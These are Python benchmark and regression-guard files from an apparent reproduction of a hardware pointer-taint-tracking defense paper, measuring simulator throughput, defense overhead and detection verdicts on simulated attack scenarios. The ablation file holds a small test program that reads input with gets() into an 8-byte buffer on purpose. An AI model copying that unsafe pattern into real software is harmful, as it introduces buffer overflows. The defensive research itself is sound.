

def test_bench_minic_program(benchmark):
    result = benchmark(run_minic, _MINIC_PROGRAM)
    assert result.outcome == "exit"
    record = collect_throughput_record()
    assert record["functional_ips"] > 100_000
    save_report(
        "simulator_throughput",
        render_kv(
            [
                ("instructions (hot loop)",
                 f"{_run_functional().stats.instructions:,}"),
                ("functional engine", f"{record['functional_ips']:,} i/s"),
                ("cache-backed engine", f"{record['cached_ips']:,} i/s"),
                ("pipeline engine", f"{record['pipeline_ips']:,} i/s"),
                ("speedup vs pre-refactor",
                 f"{record['speedup_vs_pre_refactor']}x"),
                ("note", "timings in the pytest-benchmark table; "
                         "JSON record at BENCH_simulator_throughput.json"),
            ],
            title="simulator throughput artifacts",
        ),
    )


def main():
    record = collect_throughput_record()
    print("simulator throughput (best of N):")
    for key in ("functional_ips", "cached_ips", "pipeline_ips"):
        print(f"  {key:<28} {record[key]:>12,}")
    print(f"  speedup vs pre-refactor      {record['speedup_vs_pre_refactor']:>11}x")
    print("written: BENCH_simulator_throughput.json")


if __name__ == "__main__":
    main()
