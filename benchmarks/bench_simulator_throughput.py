"""Simulator micro-benchmarks: instruction throughput of the substrates.

Not a paper artifact -- engineering data for the reproduction itself:
interpreted instructions/second for the functional engine, the cache-backed
engine, and the pipeline engine, plus toolchain (compile+assemble) cost.

Besides the pytest-benchmark table, the run emits a machine-readable
``BENCH_simulator_throughput.json`` at the repo root so the throughput
trajectory is tracked across PRs.  Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_simulator_throughput.py
    PYTHONPATH=src python benchmarks/bench_simulator_throughput.py --check

``--check`` is the taint-plane regression guard: it re-measures the
functional engine in **bit mode** and exits non-zero if throughput fell
more than ``--tolerance`` (default 10%) below the recorded
``functional_ips`` baseline -- without rewriting the baseline file.  The
label-mode provenance sidecar must never tax the default configuration.
The guard also re-measures the engine with the superblock tier disabled
and fails if the fused/unfused speedup drops below
``--min-superblock-speedup`` (default 1.5x): the fused dispatch tier
must keep paying for itself.
"""

import argparse
import json
import sys
import time

import pytest
from bench_util import REPO_ROOT, save_json, save_report

from repro.attacks.replay import run_minic
from repro.defenses.policy import PointerTaintPolicy
from repro.cpu.pipeline import Pipeline
from repro.cpu.simulator import Simulator
from repro.evalx.reporting import render_kv
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

_HOT_LOOP = (
    ".text\n_start:\n"
    "li $t0, 20000\nli $t1, 0\n"
    "loop: addu $t1, $t1, $t0\nxor $t2, $t1, $t0\nsrl $t3, $t2, 3\n"
    "andi $t4, $t3, 0xFF\naddiu $t0, $t0, -1\nbnez $t0, loop\n"
    "li $v0, 1\nli $a0, 0\nsyscall\n"
)

_MINIC_PROGRAM = """
int main(void) {
    int i; int s;
    s = 0;
    for (i = 0; i < 2000; i++) { s += i * 3 % 7; }
    printf("%d", s);
    return 0;
}
"""


def _run_functional(use_caches=False, superblocks=True):
    exe = assemble(_HOT_LOOP)
    kernel = Kernel()
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel,
                    use_caches=use_caches, superblocks=superblocks)
    kernel.attach(sim)
    sim.run()
    return sim


def _run_pipelined():
    exe = assemble(_HOT_LOOP)
    kernel = Kernel()
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
    kernel.attach(sim)
    Pipeline(sim).run()
    return sim


#: Functional-engine instructions/sec of the pre-decode-refactor engine
#: (per-step mnemonic if/elif dispatch) on this hot loop; kept as the fixed
#: reference point for the speedup figure in the JSON record.
PRE_REFACTOR_BASELINE_IPS = 430_000


def _throughput(run, repeats=3, **kwargs):
    """Best-of-N instructions/sec for one engine configuration."""
    best = 0.0
    for _ in range(repeats):
        start = time.perf_counter()
        sim = run(**kwargs)
        elapsed = time.perf_counter() - start
        best = max(best, sim.stats.instructions / elapsed)
    return best


def collect_throughput_record():
    """Measure all three engines and write the JSON record at repo root."""
    functional = _throughput(_run_functional)
    unfused = _throughput(_run_functional, superblocks=False)
    cached = _throughput(_run_functional, use_caches=True)
    pipelined = _throughput(_run_pipelined, repeats=1)
    record = {
        "workload": "hot-loop (120,005 dynamic instructions)",
        "functional_ips": round(functional),
        "unfused_ips": round(unfused),
        "cached_ips": round(cached),
        "pipeline_ips": round(pipelined),
        "superblock_speedup": round(functional / unfused, 2),
        "pre_refactor_baseline_ips": PRE_REFACTOR_BASELINE_IPS,
        "speedup_vs_pre_refactor": round(
            functional / PRE_REFACTOR_BASELINE_IPS, 2
        ),
    }
    save_json("simulator_throughput", record)
    return record


def test_bench_functional_engine(benchmark):
    sim = benchmark(_run_functional)
    assert sim.stats.instructions > 100_000


def test_bench_cached_engine(benchmark):
    sim = benchmark(_run_functional, True)
    assert sim.stats.instructions > 100_000


def test_bench_pipeline_engine(benchmark):
    sim = benchmark(_run_pipelined)
    assert sim.stats.instructions > 100_000


def test_bench_toolchain(benchmark):
    from repro.libc.build import _build_cached

    def fresh_build():
        _build_cached.cache_clear()
        return build_program(_MINIC_PROGRAM)

    exe = benchmark(fresh_build)
    assert len(exe.text_words) > 500


def test_bench_minic_program(benchmark):
    result = benchmark(run_minic, _MINIC_PROGRAM)
    assert result.outcome == "exit"
    record = collect_throughput_record()
    assert record["functional_ips"] > 100_000
    save_report(
        "simulator_throughput",
        render_kv(
            [
                ("instructions (hot loop)",
                 f"{_run_functional().stats.instructions:,}"),
                ("functional engine", f"{record['functional_ips']:,} i/s"),
                ("functional, superblocks off",
                 f"{record['unfused_ips']:,} i/s"),
                ("cache-backed engine", f"{record['cached_ips']:,} i/s"),
                ("pipeline engine", f"{record['pipeline_ips']:,} i/s"),
                ("superblock speedup",
                 f"{record['superblock_speedup']}x"),
                ("speedup vs pre-refactor",
                 f"{record['speedup_vs_pre_refactor']}x"),
                ("note", "timings in the pytest-benchmark table; "
                         "JSON record at BENCH_simulator_throughput.json"),
            ],
            title="simulator throughput artifacts",
        ),
    )


def check_against_baseline(
    tolerance=0.10, repeats=5, min_superblock_speedup=1.5, out=print
):
    """Bit-mode regression guard against the recorded baseline.

    One-sided: only a *drop* below ``baseline * (1 - tolerance)`` fails
    (faster is always fine).  The baseline JSON is read, never rewritten
    -- regenerating it is a deliberate act, not a side effect of the
    guard.  A second one-sided floor re-measures the engine with the
    superblock tier disabled: the fused/unfused ratio must stay at or
    above ``min_superblock_speedup`` (the ratio is machine-relative, so
    runner speed cancels out).  Returns a process exit code.
    """
    path = REPO_ROOT / "BENCH_simulator_throughput.json"
    baseline = json.loads(path.read_text())["functional_ips"]
    current = _throughput(_run_functional, repeats=repeats)
    unfused = _throughput(_run_functional, repeats=repeats,
                          superblocks=False)
    floor = baseline * (1.0 - tolerance)
    speedup = current / unfused
    out(f"bit-mode functional throughput: {current:>12,.0f} i/s")
    out(f"recorded baseline:              {baseline:>12,} i/s")
    out(f"allowed floor (-{tolerance:.0%}):           {floor:>12,.0f} i/s")
    out(f"superblocks-off throughput:     {unfused:>12,.0f} i/s")
    out(f"superblock speedup:             {speedup:>12.2f}x "
        f"(floor {min_superblock_speedup:.2f}x)")
    failed = False
    if current < floor:
        out(
            f"BENCH GUARD FAIL: bit-mode throughput fell "
            f"{(1 - current / baseline):.1%} below the recorded baseline"
        )
        failed = True
    if speedup < min_superblock_speedup:
        out(
            f"BENCH GUARD FAIL: superblock tier speedup {speedup:.2f}x "
            f"is below the {min_superblock_speedup:.2f}x floor"
        )
        failed = True
    if failed:
        return 1
    out("BENCH GUARD OK")
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="simulator throughput benchmark / regression guard"
    )
    parser.add_argument(
        "--check", action="store_true",
        help="guard mode: compare bit-mode throughput against the "
             "recorded BENCH_simulator_throughput.json without rewriting it",
    )
    parser.add_argument(
        "--tolerance", type=float, default=0.10,
        help="allowed fractional drop below the baseline (default 0.10)",
    )
    parser.add_argument(
        "--min-superblock-speedup", type=float, default=1.5,
        help="minimum fused/unfused throughput ratio in guard mode "
             "(default 1.5)",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_against_baseline(
            tolerance=args.tolerance,
            min_superblock_speedup=args.min_superblock_speedup,
        )
    record = collect_throughput_record()
    print("simulator throughput (best of N):")
    for key in ("functional_ips", "unfused_ips", "cached_ips",
                "pipeline_ips"):
        print(f"  {key:<28} {record[key]:>12,}")
    print(f"  superblock speedup           {record['superblock_speedup']:>11}x")
    print(f"  speedup vs pre-refactor      {record['speedup_vs_pre_refactor']:>11}x")
    print("written: BENCH_simulator_throughput.json")
    return 0


if __name__ == "__main__":
    sys.exit(main())
