"""TAB3 -- Table 3: false positives on the SPEC-2000-like workloads.

Runs the six benign workloads under the full pointer-taintedness policy and
regenerates the size / input-bytes / instructions / alerts table.  The
paper's shape: zero alerts everywhere.  Each workload is also benchmarked
individually (simulator throughput per workload).
"""

import pytest
from bench_util import save_report

from repro.apps.spec import SPEC_WORKLOADS
from repro.attacks.replay import run_minic
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.experiments import report_table3, run_table3

_FAST = [w for w in SPEC_WORKLOADS if w.name in ("BZIP2", "GZIP", "MCF")]


@pytest.mark.parametrize("workload", _FAST, ids=[w.name for w in _FAST])
def test_bench_workload(benchmark, workload):
    stdin = workload.make_input()
    result = benchmark(
        run_minic, workload.source, PointerTaintPolicy(), stdin=stdin
    )
    assert result.outcome == "exit"
    assert result.sim.stats.alerts == 0
    assert result.sim.stats.tainted_dereferences == 0


def test_bench_table3_full(benchmark):
    rows = benchmark.pedantic(run_table3, rounds=1, iterations=1)
    assert [r.name for r in rows] == [w.name for w in SPEC_WORKLOADS]
    assert sum(r.alerts for r in rows) == 0            # the paper's claim
    assert sum(r.instructions for r in rows) > 1_000_000
    assert all(r.input_bytes > 0 for r in rows)
    save_report("table3_false_positives", report_table3())
