"""SEC54 -- section 5.4: architectural overhead of taint tracking.

The paper's claims, and what we measure:

* hardware: taint propagation runs in parallel with the ALU, so the
  *instruction stream is identical* with tracking on and off (we assert
  exact equality of retired-instruction counts);
* area: one taint bit per memory byte = 12.5% shadow state;
* software: the kernel taints each input byte (~1 instruction/byte) --
  reported as a percentage of executed instructions;
* simulator cost (ours, not the paper's): wall-clock ratio of
  tracking-on vs tracking-off interpretation, which pytest-benchmark times.
"""

from bench_util import save_report

from repro.apps.spec import workload_by_name
from repro.attacks.replay import run_minic
from repro.defenses.policy import NullPolicy, PointerTaintPolicy
from repro.evalx.experiments import (
    report_sec54,
    run_sec54,
    shadow_state_overhead,
)

_WORKLOAD = workload_by_name("BZIP2")


def test_bench_tracking_on(benchmark):
    result = benchmark(
        run_minic,
        _WORKLOAD.source,
        PointerTaintPolicy(),
        stdin=_WORKLOAD.make_input(),
    )
    assert result.outcome == "exit"


def test_bench_tracking_off(benchmark):
    result = benchmark(
        run_minic,
        _WORKLOAD.source,
        NullPolicy(track_taint=False),
        stdin=_WORKLOAD.make_input(),
        taint_inputs=False,
    )
    assert result.outcome == "exit"


def test_bench_sec54_table(benchmark):
    rows = benchmark.pedantic(run_sec54, rounds=1, iterations=1)
    for row in rows:
        # Hardware claim: taint tracking adds ZERO instructions.
        assert row.instructions_tracking == row.instructions_no_tracking
        assert row.input_bytes_tainted > 0
    shadow = shadow_state_overhead()
    assert shadow["memory_overhead_pct"] == 12.5
    save_report("sec54_overhead", report_sec54())
