"""Shared helpers for the benchmark harness.

Every bench regenerates one paper artifact (table or figure): it runs the
experiment under ``pytest-benchmark`` timing, asserts the paper's *shape*
claims, and writes the rendered artifact to ``benchmarks/results/`` so the
reproduced tables exist as files after a bench run.
"""

from __future__ import annotations

import pathlib

RESULTS_DIR = pathlib.Path(__file__).parent / "results"


def save_report(name: str, text: str) -> pathlib.Path:
    """Persist a rendered table/figure under benchmarks/results/."""
    RESULTS_DIR.mkdir(exist_ok=True)
    path = RESULTS_DIR / f"{name}.txt"
    path.write_text(text + "\n")
    return path
