"""Shared helpers for the benchmark harness.

Every bench regenerates one paper artifact (table or figure): it runs the
experiment under ``pytest-benchmark`` timing, asserts the paper's *shape*
claims, and writes the rendered artifact to ``benchmarks/results/`` so the
reproduced tables exist as files after a bench run.
"""

from __future__ import annotations

import json
import pathlib

RESULTS_DIR = pathlib.Path(__file__).parent / "results"

#: Machine-readable benchmark records land at the repo root
#: (``BENCH_<name>.json``) so the perf trajectory is tracked across PRs.
REPO_ROOT = pathlib.Path(__file__).parent.parent


def save_report(name: str, text: str) -> pathlib.Path:
    """Persist a rendered table/figure under benchmarks/results/."""
    RESULTS_DIR.mkdir(exist_ok=True)
    path = RESULTS_DIR / f"{name}.txt"
    path.write_text(text + "\n")
    return path


def save_json(name: str, payload: dict) -> pathlib.Path:
    """Persist a machine-readable record as ``BENCH_<name>.json`` at the
    repo root."""
    path = REPO_ROOT / f"BENCH_{name}.json"
    path.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n")
    return path
