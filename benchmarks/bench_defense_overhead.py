"""Defense overhead: attaching the taintedness wrapper must cost nothing.

The defenses extraction (``repro.defenses``) re-homes the paper's
detector behind the pluggable :class:`~repro.defenses.base.Detector`
interface.  The load-bearing claim: the **default path is untouched** --
``TaintednessDefense`` subscribes nothing to the event bus, so attaching
it keeps the engines' zero-subscriber fast path and the inline
``tainted_dereference`` check exactly as fast as before the refactor.
The comparators (shadow stack, PAC) *do* subscribe ``InstructionRetired``
and pay the per-instruction event cost; their overhead is recorded for
the trajectory but only sanity-bounded, not guarded tightly -- they are
opt-in observers, not the default.

Measures best-of-N wall seconds on the benign call-heavy workload the
defense matrix uses (so shadow-stack/PAC hooks actually fire), one row
per defense plus the undefended baseline.  Emits
``BENCH_defense_overhead.json`` at the repo root.  Standalone::

    PYTHONPATH=src python benchmarks/bench_defense_overhead.py [--check]

``--check`` is one-sided: it exits non-zero only when the taintedness
wrapper exceeds ``MAX_TAINTEDNESS_OVERHEAD_PCT`` over the undefended
baseline (or a comparator blows past its loose sanity ceiling); being
faster never fails.
"""

import sys

from bench_util import save_json, save_report

from repro.evalx.defense_matrix import DEFENSE_NAMES, run_defense_overhead
from repro.evalx.reporting import render_kv

#: The default-path budget: attaching the taintedness wrapper (which
#: subscribes nothing) may not measurably slow the run.  The bound is
#: loose because the workload is short and shared runners are noisy; the
#: structural regression it guards against -- the wrapper growing an
#: InstructionRetired subscription -- costs far more than this.
MAX_TAINTEDNESS_OVERHEAD_PCT = 30.0

#: Sanity ceiling for the event-bus comparators.  Subscribing
#: InstructionRetired forces per-instruction event allocation, so real
#: overheads sit near 100-150%; the ceiling only catches pathological
#: regressions (e.g. a comparator going quadratic in call depth).
MAX_COMPARATOR_OVERHEAD_PCT = 600.0


def collect_defense_overhead_record(repeats=5):
    rows = run_defense_overhead(repeats=repeats)
    by_name = {row["defense"]: row for row in rows}
    record = {
        "workload": "benign call-heavy MiniC loop (defense matrix)",
        "rows": rows,
        "taintedness_overhead_pct": by_name["taintedness"]["overhead_pct"],
        "max_taintedness_overhead_pct": MAX_TAINTEDNESS_OVERHEAD_PCT,
        "max_comparator_overhead_pct": MAX_COMPARATOR_OVERHEAD_PCT,
        "note": (
            "taintedness wrapper subscribes nothing (inline check only); "
            "shadow-stack/pac subscribe InstructionRetired and pay the "
            "per-instruction event cost"
        ),
    }
    save_json("defense_overhead", record)
    return record


def _violations(record):
    problems = []
    by_name = {row["defense"]: row for row in record["rows"]}
    taint = by_name["taintedness"]["overhead_pct"]
    if taint >= MAX_TAINTEDNESS_OVERHEAD_PCT:
        problems.append(
            f"taintedness wrapper overhead {taint:.1f}% >= "
            f"{MAX_TAINTEDNESS_OVERHEAD_PCT}%"
        )
    for name in ("shadow-stack", "pac"):
        pct = by_name[name]["overhead_pct"]
        if pct >= MAX_COMPARATOR_OVERHEAD_PCT:
            problems.append(
                f"{name} overhead {pct:.1f}% >= "
                f"{MAX_COMPARATOR_OVERHEAD_PCT}%"
            )
    return problems


def test_bench_defense_overhead_record(benchmark):
    rows = benchmark(run_defense_overhead, repeats=1)
    assert [r["defense"] for r in rows] == ["none", *DEFENSE_NAMES]
    record = collect_defense_overhead_record()
    assert not _violations(record), _violations(record)
    save_report(
        "defense_overhead",
        render_kv(
            [
                (row["defense"],
                 f"{row['wall_s']:.4f}s ({row['overhead_pct']:+.1f}%), "
                 f"{row['checks']} checks")
                for row in record["rows"]
            ] + [("note", "JSON record at BENCH_defense_overhead.json")],
            title="defense overhead artifacts",
        ),
    )


def main(argv):
    check = "--check" in argv
    record = collect_defense_overhead_record(repeats=7 if check else 5)
    print("defense overhead (best of N):")
    for row in record["rows"]:
        print(
            f"  {row['defense']:<14} {row['wall_s']:>9.4f}s "
            f"{row['overhead_pct']:>+8.1f}%  {row['checks']:>6} checks"
        )
    print("written: BENCH_defense_overhead.json")
    if check:
        problems = _violations(record)
        if problems:
            for problem in problems:
                print(f"BENCH GUARD FAIL: {problem}")
            return 1
        print("BENCH GUARD OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
