"""Benchmark-suite configuration: calmer rounds for whole-program replays."""

import sys
import pathlib

# Allow `from bench_util import ...` regardless of invocation directory.
sys.path.insert(0, str(pathlib.Path(__file__).parent))
