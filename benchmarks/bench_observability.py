"""Observability overhead: metrics-off must ride the zero-subscriber path.

The tentpole claim of the observability layer is that *not* asking for
metrics costs nothing: the engines' no-subscriber fast path stays intact
because the :class:`repro.obs.profile.Observer` never subscribes to
``InstructionRetired`` and a bare :class:`repro.api.Session` subscribes to
nothing at all.  This bench measures three configurations on the same hot
loop as ``bench_simulator_throughput``:

* **baseline** -- the raw replay harness, no Session;
* **session-off** -- a Session with metrics/trace disabled (must be
  within noise of baseline; the CI guard enforces <10%);
* **session-on** -- metrics + default trace enabled (the documented
  cost of observing; the live handlers only fire on taint/syscall/fault
  events, so the overhead scales with event density, not instructions).

Emits ``BENCH_observability.json`` at the repo root.  Standalone::

    PYTHONPATH=src python benchmarks/bench_observability.py [--check]

``--check`` exits non-zero if the metrics-off overhead exceeds 10%
(the CI bench guard).
"""

import sys
import time

from bench_util import save_json, save_report

from repro.api import Session
from repro.attacks.replay import run_executable
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.reporting import render_kv
from repro.isa.assembler import assemble

#: Same shape as bench_simulator_throughput's hot loop: ALU-dense,
#: 120,005 dynamic instructions, one syscall.
_HOT_LOOP = (
    ".text\n_start:\n"
    "li $t0, 20000\nli $t1, 0\n"
    "loop: addu $t1, $t1, $t0\nxor $t2, $t1, $t0\nsrl $t3, $t2, 3\n"
    "andi $t4, $t3, 0xFF\naddiu $t0, $t0, -1\nbnez $t0, loop\n"
    "li $v0, 1\nli $a0, 0\nsyscall\n"
)

#: The fast-path budget the CI guard enforces: Session-without-metrics
#: may not be more than this much slower than the raw harness.
MAX_OFF_OVERHEAD_PCT = 10.0


def _run_baseline():
    return run_executable(assemble(_HOT_LOOP), PointerTaintPolicy())


def _run_session(metrics=False, trace=False):
    session = Session(policy="paper", metrics=metrics, trace=trace)
    return session.run_executable(assemble(_HOT_LOOP))


def _ips_interleaved(runs, repeats=3):
    """Best-of-N instructions/sec per configuration, round-robin.

    Interleaving (A B C, A B C, ...) instead of (A A A, B B B, ...) keeps
    interpreter warm-up and allocator drift from biasing whichever
    configuration happens to run first.
    """
    for run in runs:  # warm-up pass, untimed
        run()
    best = [0.0] * len(runs)
    for _ in range(repeats):
        for i, run in enumerate(runs):
            start = time.perf_counter()
            result = run()
            elapsed = time.perf_counter() - start
            best[i] = max(best[i], result.sim.stats.instructions / elapsed)
    return best


def collect_observability_record(repeats=8):
    """Measure the three configurations and write the JSON record."""
    baseline, session_off, session_on = _ips_interleaved(
        [
            _run_baseline,
            _run_session,
            lambda: _run_session(metrics=True, trace=True),
        ],
        repeats,
    )
    off_overhead = (baseline / session_off - 1.0) * 100.0
    on_overhead = (baseline / session_on - 1.0) * 100.0
    record = {
        "workload": "hot-loop (120,005 dynamic instructions)",
        "baseline_ips": round(baseline),
        "session_metrics_off_ips": round(session_off),
        "session_metrics_on_ips": round(session_on),
        "metrics_off_overhead_pct": round(off_overhead, 2),
        "metrics_on_overhead_pct": round(on_overhead, 2),
        "max_off_overhead_pct": MAX_OFF_OVERHEAD_PCT,
        "note": (
            "metrics-off must stay on the engines' zero-subscriber fast "
            "path; metrics-on cost scales with event density (taint/"
            "syscall), not instruction count"
        ),
    }
    save_json("observability", record)
    return record


def test_bench_session_metrics_off(benchmark):
    result = benchmark(_run_session)
    assert result.sim.stats.instructions > 100_000


def test_bench_session_metrics_on(benchmark):
    result = benchmark(_run_session, metrics=True, trace=True)
    assert result.sim.stats.instructions > 100_000
    assert result.metrics["counters"]["run.instructions"] > 100_000


def test_bench_observability_record(benchmark):
    result = benchmark(_run_baseline)
    assert result.outcome == "exit"
    record = collect_observability_record()
    # The fast-path claim, measured in-process so runner speed cancels out.
    assert record["metrics_off_overhead_pct"] < MAX_OFF_OVERHEAD_PCT
    save_report(
        "observability",
        render_kv(
            [
                ("baseline", f"{record['baseline_ips']:,} i/s"),
                ("session, metrics off",
                 f"{record['session_metrics_off_ips']:,} i/s "
                 f"({record['metrics_off_overhead_pct']:+.1f}%)"),
                ("session, metrics+trace on",
                 f"{record['session_metrics_on_ips']:,} i/s "
                 f"({record['metrics_on_overhead_pct']:+.1f}%)"),
                ("note", "JSON record at BENCH_observability.json"),
            ],
            title="observability overhead artifacts",
        ),
    )


def main(argv):
    check = "--check" in argv
    record = collect_observability_record(repeats=10 if check else 8)
    print("observability overhead (best of N):")
    for key in ("baseline_ips", "session_metrics_off_ips",
                "session_metrics_on_ips"):
        print(f"  {key:<28} {record[key]:>12,}")
    print(f"  metrics-off overhead         {record['metrics_off_overhead_pct']:>11.2f}%")
    print(f"  metrics-on  overhead         {record['metrics_on_overhead_pct']:>11.2f}%")
    print("written: BENCH_observability.json")
    if check and record["metrics_off_overhead_pct"] >= MAX_OFF_OVERHEAD_PCT:
        print(
            f"BENCH GUARD FAIL: metrics-off overhead "
            f"{record['metrics_off_overhead_pct']:.2f}% >= "
            f"{MAX_OFF_OVERHEAD_PCT}%"
        )
        return 1
    if check:
        print("BENCH GUARD OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
