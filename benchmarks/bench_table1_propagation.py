"""TAB1 -- Table 1: ALU taintedness propagation rules.

Runs one micro-program per instruction class on the simulated machine and
checks the propagated taint masks; the benchmark times the full rule sweep
(a proxy for the taint-tracking datapath cost).
"""

import pytest
from bench_util import save_report

from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.reporting import render_table

from tests.helpers import run_asm

_PREAMBLE = """
.text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 4
    syscall
    la $t9, buf
    lw $t0, 0($t9)      # fully tainted word
    lbu $t8, 0($t9)     # byte-0-tainted word
    li $t1, 0x01010101  # clean word
"""

_EPILOGUE = "\n    li $v0, 1\n    li $a0, 0\n    syscall\n.data\nbuf: .space 8\n"

#: (rule name, instruction body, destination register, expected taint mask)
RULES = [
    ("default OR (add)", "add $s0, $t0, $t1", 16, 0xF),
    ("default OR (clean)", "add $s0, $t1, $t1", 16, 0x0),
    ("shift left spreads", "sll $s0, $t8, 4", 16, 0b0011),
    ("shift right spreads", "srl $s0, $t0, 4", 16, 0xF),
    ("AND untaints zero bytes", "andi $s0, $t0, 0xFF", 16, 0b0001),
    ("XOR r,r,r zero idiom", "xor $s0, $t0, $t0", 16, 0x0),
    ("compare result clean", "slt $s0, $t0, $t1", 16, 0x0),
    ("compare untaints operand", "slt $s0, $t0, $t1", 8, 0x0),
]


def _run_rule(body):
    sim, _ = run_asm(
        _PREAMBLE + "    " + body + _EPILOGUE,
        stdin=b"abcd",
        policy=PointerTaintPolicy(),
    )
    return sim


@pytest.mark.parametrize(
    "name, body, register, expected",
    RULES,
    ids=[rule[0].replace(" ", "-") for rule in RULES],
)
def test_bench_rule(benchmark, name, body, register, expected):
    sim = benchmark(_run_rule, body)
    assert sim.regs.taint(register) == expected, name


def test_bench_table1_report(benchmark):
    def sweep():
        rows = []
        for name, body, register, expected in RULES:
            sim = _run_rule(body)
            rows.append((name, body, f"{sim.regs.taint(register):#06b}",
                         f"{expected:#06b}"))
        return rows

    rows = benchmark(sweep)
    assert all(observed == wanted for _, _, observed, wanted in rows)
    save_report(
        "table1_propagation",
        render_table(
            ["rule", "instruction", "observed taint", "expected taint"],
            rows,
            title="Table 1: taintedness propagation by ALU instructions",
        ),
    )
