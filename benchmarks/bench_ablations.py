"""ABLATIONS -- the DESIGN.md design-choice studies.

Three knobs of the taint architecture, each toggled to show why the paper
set it the way it did:

* compare-untaint OFF: Table 4(A) becomes detectable, but benign
  validated-index code starts false-positiving (the trade-off);
* XOR-idiom OFF: the compiler's zero idiom would leave registers tainted;
* cache hierarchy ON: detection verdicts are unchanged when data (and
  taint) flow through L1/L2 -- section 4.1's memory-hierarchy claim.
"""

from bench_util import save_report

from repro.apps.spec import workload_by_name
from repro.apps.synthetic import exp3_scenario, vuln_a_scenario
from repro.attacks.replay import run_executable, run_minic
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.reporting import render_table


def test_bench_compare_untaint_tradeoff(benchmark):
    strict = PointerTaintPolicy(untaint_on_compare=False)
    paper = PointerTaintPolicy()
    scenario = vuln_a_scenario()
    gzip = workload_by_name("GZIP")

    def run_ablation():
        return {
            "table4a paper": scenario.run_attack(paper),
            "table4a strict": scenario.run_attack(strict),
            "gzip paper": run_minic(gzip.source, paper,
                                    stdin=gzip.make_input()),
            "gzip strict": run_minic(gzip.source, strict,
                                     stdin=gzip.make_input()),
        }

    results = benchmark.pedantic(run_ablation, rounds=1, iterations=1)
    assert not results["table4a paper"].detected    # paper's false negative
    assert results["table4a strict"].detected       # caught without the rule
    assert results["gzip paper"].outcome == "exit"  # no false positive
    assert results["gzip strict"].detected          # FALSE positive appears

    save_report(
        "ablation_compare_untaint",
        render_table(
            ["run", "verdict"],
            [(name, result.describe()[:70])
             for name, result in results.items()],
            title="Ablation: Table 1 compare-untaint rule on/off",
        ),
    )


def test_bench_xor_idiom(benchmark):
    """Without the XOR idiom, zeroing a tainted register leaves it tainted;
    using it as an index (value 0: in bounds!) then falsely alerts."""
    source = """
    int table[4];
    int main(void) {
        char line[8];
        int i;
        gets(line);
        i = atoi(line);
        i = i ^ i;            /* compiler zero idiom */
        table[i] = 1;
        return 0;
    }
    """
    with_idiom = run_minic(source, PointerTaintPolicy(), stdin=b"7\n")
    without = benchmark.pedantic(
        run_minic,
        args=(source, PointerTaintPolicy(untaint_xor_idiom=False)),
        kwargs={"stdin": b"7\n"},
        rounds=1,
        iterations=1,
    )
    assert with_idiom.outcome == "exit"
    assert without.detected                        # spurious alert


def test_bench_caches_preserve_verdicts(benchmark):
    """Attack and benign verdicts are identical with the L1/L2 hierarchy."""
    scenario = exp3_scenario()
    exe = scenario.build()

    def run_cached():
        attack = run_executable(
            exe, PointerTaintPolicy(),
            use_caches=True, **{"stdin": scenario.attack_input["stdin"]},
        )
        benign = run_executable(
            exe, PointerTaintPolicy(),
            use_caches=True, **{"stdin": scenario.benign_input["stdin"]},
        )
        return attack, benign

    attack, benign = benchmark.pedantic(run_cached, rounds=1, iterations=1)
    assert attack.detected
    assert attack.alert.pointer_value == 0x64636261
    assert benign.outcome == "exit"
