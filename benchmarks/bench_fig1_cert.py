"""FIG1 -- Figure 1: CERT advisory breakdown 2000-2003.

Regenerates the vulnerability-class percentages over the 107 analyzed
advisories and checks the paper's headline: the memory-corruption classes
account for ~67%, dominated by buffer overflow.
"""

from bench_util import save_report

from repro.evalx.cert import (
    BUFFER_OVERFLOW,
    analyzed_advisories,
    figure1_rows,
    memory_corruption_share,
)
from repro.evalx.experiments import report_fig1


def test_bench_fig1_breakdown(benchmark):
    rows = benchmark(figure1_rows)
    assert len(analyzed_advisories()) == 107
    assert rows[0][0] == BUFFER_OVERFLOW          # dominant class
    share = memory_corruption_share()
    assert 66.0 <= share <= 68.5                  # paper: 67%
    save_report("fig1_cert_breakdown", report_fig1())
