"""Parallel campaign engine: trials/second vs worker count.

Engineering data for the :mod:`repro.parallel` process pool: the same
seeded exp3 campaign run serially and at 2 / 4 / one-per-core workers,
with scaling efficiency per width and the digest asserted byte-identical
at every width (the pool must buy speed, never change a record).

Emits ``BENCH_parallel_campaign.json`` at the repo root (including the
host's ``cpu_count`` and pool ``start_method``, so a number measured on
a one-core CI box is never mistaken for a scaling claim) and a rendered
summary under ``benchmarks/results/``.  Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_parallel_campaign.py
    PYTHONPATH=src python benchmarks/bench_parallel_campaign.py --check
    PYTHONPATH=src python benchmarks/bench_parallel_campaign.py --smoke

``--check`` is the scaling regression guard: 4-worker throughput must
reach ``0.625 * min(4, cpu_count)`` times the measured serial rate --
that is exactly the 2.5x-at-4-workers bar on a >= 4-core host, and on
smaller hosts it degrades to demanding the pool cost no more than ~37%
overhead over serial.  One-sided, and the baseline JSON is never
rewritten by the guard.  ``--smoke`` is the CI fast path: a small
campaign at -j1 and -j2 with the digest equality asserted.
"""

import argparse
import json
import os
import sys

from bench_util import REPO_ROOT, save_json, save_report

from repro.evalx.reporting import render_kv
from repro.fault import CampaignConfig, FaultCampaign, builtin_workload

_SEED = 7
_TRIALS = 120
_WORKLOAD = "exp3"


def _run(workers, trials=_TRIALS):
    campaign = FaultCampaign(
        builtin_workload(_WORKLOAD),
        CampaignConfig(seed=_SEED, trials=trials, workers=workers),
    )
    return campaign.run()


def _widths():
    """Worker counts to measure: serial, 2, 4, and one-per-core."""
    cpu = os.cpu_count() or 1
    return sorted({1, 2, 4, cpu})


def collect_parallel_record():
    cpu = os.cpu_count() or 1
    runs = {}
    for workers in _widths():
        result = _run(workers)
        runs[workers] = result
